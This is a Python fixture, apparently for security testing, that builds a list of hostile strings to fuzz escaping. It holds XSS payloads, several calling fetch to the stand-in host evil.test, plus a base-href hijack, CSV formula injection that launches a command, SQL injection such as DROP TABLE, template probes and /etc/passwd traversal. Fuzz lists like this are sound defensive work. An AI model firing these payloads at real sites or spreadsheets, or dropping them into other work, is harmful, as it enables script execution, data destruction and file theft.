"""Two hundred strings that try to break out of a cell, an attribute, a file or a line."""

from __future__ import annotations

_CALLS = (
    "window.hit=1",
    "alert(1)",
    "fetch('//evil.test')",
    "document.cookie='a=b'",
)
_MARKUP = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "\"><img src=x onerror='{}'>",
    '\'><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script href='data:,{}'/></svg>",
    "<math><mtext></p><img src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<a href='javascript:{}'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.test/{}'>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    "` onmouseover=`{}",
    "x onmouseover={} y",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)
_OTHERS = (
    *("{{ 7 * 7 }}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("</main></body></html>", "</div></div></div><h1>out</h1>", "<!--", "<![CDATA["),
    *("<plaintext>", "<xmp>", "<noscript>", "</bdi></del></ins>", "<table><tr><td>"),
    *("=1+1", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"),
    *('=HYPERLINK("http://evil.test","x")', "=cmd|' /C calc'!A0", " =1+1"),
    *(
        "\u202egnirts\u202c",
        "\u2066isolate",
        "\u2069\u2069\u202d",
        "\u200f\u200e\u061c",
    ),
    *("a\u0000b", "\u0008\u001b[31mred", "\ufeff", "\ufffe\uffff", "\u2028\u2029"),
    *("z\u0335\u0321a\u0338\u0322l\u0337g\u0336o\u0335", "\U0001f469\u200d\U0001f4bb"),
    *("'; DROP TABLE articles; --", '" OR 1=1 --', "Robert'); DELETE FROM outlets;--"),
    *('" OR headline:*', "NEAR(a b)", "a AND", "*", '"', "^x", "a:b", "(", "col : x"),
    *("../../../../etc/passwd", "%00", "%s%n", "\\", "\\'", "\\x3cscript\\x3e"),
    *("C:\\news\\x", "x" * 4000, "word " * 900, "ا" * 900, "字" * 900, "&" * 500),
)
HOSTILE = tuple(
    dict.fromkeys(
        (*(form.format(call) for form in _MARKUP for call in _CALLS), *_OTHERS)
    )
)
